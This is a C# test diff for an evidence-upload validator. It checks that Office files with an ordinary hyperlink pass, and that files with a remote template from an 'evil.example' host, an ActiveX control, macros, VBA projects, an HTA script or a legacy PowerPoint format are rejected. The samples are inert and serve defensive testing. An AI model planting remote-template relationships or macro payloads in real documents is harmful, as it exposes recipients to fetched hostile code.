@@ -63,6 +63,16 @@ public class TipEvidenceTypeTests(ApiFactory factory) : IClassFixture<ApiFactory
     }
 
     [Fact]
+    public async Task A_document_with_an_ordinary_hyperlink_is_still_accepted()
+    {
+        var (_, _, receipt) = await TipAsync();
+        var docx = Zip(("[Content_Types].xml", ContentTypes(WordMain)), ("word/document.xml", "<w:document/>"),
+            ("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.samr.gov.cn/\" TargetMode=\"External\"/></Relationships>"));
+
+        Assert.Equal(HttpStatusCode.Created, (await UploadAsync(factory, receipt, docx, "a.docx")).StatusCode);
+    }
+
+    [Fact]
     public async Task A_word_document_is_accepted_as_docx_whatever_its_name()
     {
         var (officer, id, receipt) = await TipAsync();
@@ -82,6 +92,10 @@ public class TipEvidenceTypeTests(ApiFactory factory) : IClassFixture<ApiFactory
         { "a ZIP that is no Office document", Zip(("run.hta", "<script>alert(1)</script>")) },
         { "a macro-enabled content type", Zip(("[Content_Types].xml", ContentTypes(MacroWordMain)), ("word/document.xml", "<w:document/>")) },
         { "a VBA project inside", Zip(("[Content_Types].xml", ContentTypes(WordMain)), ("word/vbaProject.bin", "Attribute VB_Name")) },
+        { "a remote template", Zip(("[Content_Types].xml", ContentTypes(WordMain)), ("word/document.xml", "<w:document/>"),
+            ("word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
+        { "an ActiveX control", Zip(("[Content_Types].xml", ContentTypes(WordMain)), ("word/activeX/activeX1.xml", "<ax/>")) },
+        { "a legacy PowerPoint file", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[500], .. Encoding.Unicode.GetBytes("PowerPoint Document")] },
         { "an OLE file with a VBA project", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[500],
             .. Encoding.Unicode.GetBytes("WordDocument"), .. new byte[100], .. Encoding.Unicode.GetBytes("_VBA_PROJECT_CUR")] },
     };
